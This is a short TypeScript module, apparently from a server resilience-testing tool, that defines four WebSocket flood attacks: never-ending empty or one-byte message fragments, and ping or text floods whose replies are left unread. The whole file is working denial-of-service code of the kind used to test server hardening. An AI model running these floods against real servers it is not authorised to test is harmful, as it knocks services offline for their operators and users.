import type { Attacker } from '../lib/attacker.ts'
import { repeated } from '../lib/frames.ts'
import { encodeMessage, FIN, Opcode } from '../lib/websocket-connection.ts'

const batch = 1000

/** A beginning, and then the same frame without an end. */
function flood(begin: Buffer, frame: Buffer, isRead = true): (a: Attacker) => Promise<void> {
  const frames = repeated(frame, batch)
  return (attacker) =>
    attacker.webSocket(async (connection) => {
      if (!isRead) connection.socket.pause()
      await connection.send(begin, 0)
      while (connection.isOpen) await connection.send(frames, batch)
    })
}

const firstFragment = encodeMessage(Opcode.BINARY)
const one = Buffer.from('x')

/** Fragments without payload, of a message that never ends. */
export const emptyFragments = flood(firstFragment, encodeMessage(Opcode.CONTINUATION))

/** Fragments of one byte each. */
export const tinyFragments = flood(firstFragment, encodeMessage(Opcode.CONTINUATION, one))

/** Pings whose answers are not read. */
export const unreadPongs = flood(Buffer.alloc(0), encodeMessage(FIN | Opcode.PING, one), false)

/** Messages whose echoes are not read. */
export const unreadEchoes = flood(Buffer.alloc(0), encodeMessage(FIN | Opcode.TEXT, one), false)
